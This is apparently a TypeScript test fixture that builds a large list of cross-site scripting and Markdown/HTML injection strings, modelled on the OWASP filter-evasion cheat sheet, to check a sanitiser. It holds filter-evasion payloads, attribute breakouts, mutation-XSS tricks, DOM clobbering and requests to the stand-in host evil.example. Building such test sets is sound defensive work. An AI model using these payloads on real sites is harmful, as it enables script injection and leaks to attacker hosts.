// Strings by which pages have been attacked, after the OWASP cheat sheet on filter evasion and the tests of sanitisers.
// Whatever runs sets `top.hits`; whatever leaves asks evil.example; whatever covers the page is fixed over all of it.

const run = 'top.hits=1';
const away = 'https://evil.example/x';
const cover = 'position:fixed;inset:0;z-index:99999;background:red';

const tags = 'img svg a div details video audio body input marquee iframe object form button math p custom-x'.split(
  ' ',
);
const handlers = ['onerror', 'onload', 'onmouseover', 'onfocus', 'ontoggle', 'onanimationstart', 'onpointerover'];
const handled = tags.flatMap((tag) =>
  handlers.map((name) => `<${tag} src=x href=x tabindex=0 autofocus open ${name}="${run}">x</${tag}>`),
);

const schemes = [
  `javascript:${run}`,
  `JaVaScRiPt:${run}`,
  `\u0001javascript:${run}`,
  `\u001F javascript:${run}`,
  `java\tscript:${run}`,
  `java&Tab;script:${run}`,
  `javascript&colon;${run}`,
  `&#106;avascript:${run}`,
  `&#x6A;avascript:${run}`,
  `javascript://x/%0a${run}`,
  `vbscript:${run}`,
  `data:text/html,<script>${run}</script>`,
  'data:text/html;base64,PHNjcmlwdD50b3AuaGl0cz0xPC9zY3JpcHQ+',
  `view-source:javascript:${run}`,
  `feed:javascript:${run}`,
  `blob:javascript:${run}`,
];
const linked = schemes.flatMap((address) => [
  address,
  `[x](<${address}>)`,
  `![x](<${address}>)`,
  `<a href="${address}">x</a>`,
  `<img src="${address}">`,
]);

/** An attribute that is ended from within: what a value must not be able to do. */
const broken = [
  `/img/y" onerror="${run}" z="'.png`,
  `/img/y%22%20onerror=%22${run}%22%20z=%22.png`,
  `/img/y%2522%20onerror=%2522${run}%2522.png`,
  `/img/y&quot; onerror=&quot;${run}&quot;.png`,
  `/img/y' onerror='${run}' z='.png`,
  `/img/y%27%20onerror=%27${run}%27.png`,
  `/img/y\`onerror=${run}.png`,
  `/img/y"><script>${run}</script>.png`,
  `/img/y%22%3E%3Cscript%3E${run}%3C%2Fscript%3E.png`,
  `/img/y%22%3E%3Cimg%20src=x%20onerror=${run}%3E.png`,
  `/img/y%3C/main%3E%3Csvg%20onload=${run}%3E.png`,
  `"><img src=x onerror=${run}>`,
  `'><img src=x onerror=${run}>`,
  `</title><script>${run}</script>`,
  `</textarea><script>${run}</script>`,
  `</style><script>${run}</script>`,
  `</script><script>${run}</script>`,
  `</main><script>${run}</script><main>`,
  `--><script>${run}</script>`,
  `]]><script>${run}</script>`,
  `{{constructor.constructor('${run}')()}}`,
  `\${${run}}`,
  `$&<script>${run}</script>`,
];
const imaged = broken.flatMap((address) => [address, `![x](${address})`, `![x](<${address}>)`]);

const elements = [
  `<script>${run}</script>`,
  `<script src=${away}></script>`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `<script/x>${run}</script>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>"></noscript>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${run}&gt;">`,
  `<svg><style><img title="</style><img src=x onerror=${run}>"></style></svg>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><a xlink:href="javascript:${run}"><text>x</text></a></svg>`,
  `<svg><animate attributeName=href values="javascript:${run}"/></svg>`,
  `<svg><foreignObject><script>${run}</script></foreignObject></svg>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`,
  `<template><img src=x onerror=${run}></template>`,
  `<xmp><img src=x onerror=${run}></xmp>`,
  `<plaintext><img src=x onerror=${run}>`,
  `<iframe srcdoc="<script>${run}</script>"></iframe>`,
  `<iframe src="${away}"></iframe>`,
  `<object data="${away}"></object>`,
  `<embed src="${away}">`,
  `<link rel=stylesheet href="${away}">`,
  `<link rel=prefetch href="${away}">`,
  `<meta http-equiv=refresh content="0;url=${away}">`,
  `<base href="${away}/">`,
  `<style>@import url(${away});body{background:url(${away})}</style>`,
  `<p style="background:url(${away})">x</p>`,
  `<p style="${cover}">x</p>`,
  `<div style="${cover}"><a href="${away}">x</a></div>`,
  `<div class="spread corner skip-link announcement" style="${cover}">x</div>`,
  `<dialog open style="${cover}">x</dialog>`,
  `<div popover id=cover style="${cover}">x</div><button popovertarget=cover>x</button>`,
  `<video src="${away}" poster="${away}" autoplay></video>`,
  `<audio src="${away}" autoplay></audio>`,
  `<picture><source srcset="${away}"><img src="/img/card.png" alt="x"></picture>`,
  `<img srcset="${away} 2x" src="/img/card.png" alt="x">`,
  `<img src="${away}" alt="x">`,
  `<img alt="<!--" src="${away}">`,
  `<image src="${away}">`,
  `<input type=image src="${away}">`,
  `<body background="${away}">`,
  `<table background="${away}"><tr><td background="${away}">x</td></tr></table>`,
  `<a href="/blog/" ping="${away}">x</a>`,
  `<form action="${away}" id=f><input name=q><button>x</button></form><script>f.submit()</script>`,
  `<button formaction="javascript:${run}">x</button>`,
  `<portal src="${away}"></portal>`,
  `<frameset><frame src="javascript:${run}"></frameset>`,
  `<marquee onstart=${run}>x</marquee>`,
  `<img name="querySelector" src="/img/card.png" alt="x"><img name="querySelectorAll" src="/img/card.png" alt="x">`,
  `<form id=x><input name=attributes><input name=parentNode></form>`,
  `<a id=document></a><a id=top></a><a id=self name=self></a><img name=createElement id=createElement>`,
  `<div id="Main">x</div>`,
  `<p data-embed="${away}" data-analytics="${away}" data-theme-switch data-members-filter>x</p>`,
  `![x](${away})`,
  `![x](//evil.example/x)`,
  `![x](/https://evil.example/x)`,
  `![x](/\\evil.example/x)`,
  `![x](///evil.example/x)`,
  `![x](&#104;ttps://evil.example/x)`,
  `![x [y](/blog/) z](${away})`,
  `![x]\n\n[x]: ${away}`,
  '[x](https://youtu.be/abcdefghijk"onload="top.hits=1)',
  `https://youtu.be/abcdefghijk?"><script>${run}</script>`,
  `[^1]\n\n[^1]: <script>${run}</script>`,
  `| a |\n| - |\n| <script>${run}</script> |`,
  `\`\`\`js "><script>${run}</script>\nx\n\`\`\``,
  `# <img src=x onerror=${run}>`,
  `- [x] <img src=x onerror=${run}>`,
];

/** What is tried in every place where somebody may write. */
export const attacks: readonly string[] = [...new Set([...elements, ...imaged, ...linked, ...handled])];
